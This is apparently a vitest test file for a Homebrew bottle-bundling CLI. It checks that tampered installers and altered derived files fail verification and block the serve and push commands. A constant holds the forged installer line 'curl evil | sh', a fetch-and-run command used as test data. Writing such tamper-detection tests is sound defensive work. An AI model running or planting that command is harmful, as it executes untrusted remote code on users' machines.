import { createHash } from 'node:crypto';
import { cp } from 'node:fs/promises';
import { join } from 'node:path';

import { expect, test } from 'vitest';

import { writeBundle } from '../../src/bundle/make/write-bundle.ts';
import { parseTargetTag } from '../../src/core/target.ts';
import { makeBottle } from '../support/brew/bottle.ts';
import { forge } from '../support/brew/forge.ts';
import { cliHome, type CliHome } from '../support/cli/cli-home.ts';
import { runCli, type CliResult } from '../support/cli/run-cli.ts';

const EVIL = '#!/bin/bash\ncurl evil | sh\n';

async function homeWithBundle(): Promise<CliHome> {
  const home = await cliHome();
  const item = await makeBottle(home.at('bottles'), { formula: 'a', stubs: ['cmake'] });
  const targets = [{ target: parseTargetTag('big_sur'), items: [item] }];
  const contents = { targets, lock: undefined, receipts: [] };
  await writeBundle(contents, { path: home.at('work/linked'), format: 'folder' });
  await cp(home.at('work/linked'), home.at('work/b'), { recursive: true });
  return home;
}

function brewpull(home: CliHome, ...argv: readonly string[]): Promise<CliResult> {
  return home.run(argv);
}

async function claim(home: CliHome, version: string, name = 'brewpull'): Promise<void> {
  await forge(join(home.work, 'b'), 'bundle.json', (text) =>
    text
      .replace('"version": "0.1.0"', `"version": "${version}"`)
      .replace('"name": "brewpull"', `"name": "${name}"`),
  );
  await forge(join(home.work, 'b'), 'README.txt', (text) =>
    text.replace('brewpull 0.1.0', `${name} ${version}`),
  );
}

test.each([
  ['0.0.9', 'brewpull'],
  ['9.9.9', 'brewpull'],
  ['0.1.0', 'brewpuII'],
])(
  'an unknown installer is never sound, whatever the bundle says made it (%s of %s)',
  async (version, name) => {
    await using home = await homeWithBundle();
    await claim(home, version, name);
    await forge(join(home.work, 'b'), 'install.sh', () => EVIL);
    const verified = await brewpull(home, 'verify', 'b');
    const sum = createHash('sha256').update(EVIL).digest('hex');

    expect(verified.code).toBe(4);
    expect(verified.stdout).not.toContain('ok');
    expect(verified.stdout).toContain(
      `install.sh is not an installer that brewpull 0.1.0 knows: bundle.json names ${name} ${version}, its sha256 is ${sum}`,
    );
    expect(verified.stdout).toContain('or make the bundle again with brewpull bundle');
    for (const argv of [
      ['serve', 'b', '--port', '0'],
      ['push', 'b', 'http://127.0.0.1:1/x'],
    ]) {
      const refused = await runCli(argv, { cwd: home.work });
      expect(refused.code).toBe(4);
      expect(refused.stderr).toContain('install.sh is not an installer that brewpull 0.1.0 knows');
    }
  },
);

test.each([
  ['installer/big_sur/stubs/cmake.rb'],
  ['installer/big_sur/fallback/a.rb'],
  ['installer/big_sur/plan.tsv'],
  ['installer/targets.tsv'],
  ['README.txt'],
])('%s is derived again, whatever version the bundle names', async (file) => {
  await using home = await homeWithBundle();
  await claim(home, '0.0.9');
  await forge(join(home.work, 'b'), file, (text) => `${text}# more\n`);
  const { code, stdout } = await brewpull(home, 'verify', 'b');

  expect(code).toBe(4);
  expect(stdout).toContain(
    `${file} is not what brewpull 0.1.0 derives from bundle.json, which names brewpull 0.0.9`,
  );
});

test('a bundle of another version whose installer and derived files are known is sound', async () => {
  await using home = await homeWithBundle();
  await claim(home, '0.1.1');

  expect(await brewpull(home, 'verify', 'b')).toMatchObject({
    code: 0,
    stdout: 'b: ok, 1 bottle\n',
  });
});

test('a forged installer of this version is found', async () => {
  await using home = await homeWithBundle();
  await forge(join(home.work, 'b'), 'install.sh', () => EVIL);
  const { code, stdout } = await brewpull(home, 'verify', 'b');

  expect(code).toBe(4);
  expect(stdout).toContain('install.sh is not the installer of brewpull 0.1.0, whose sha256 is');
});
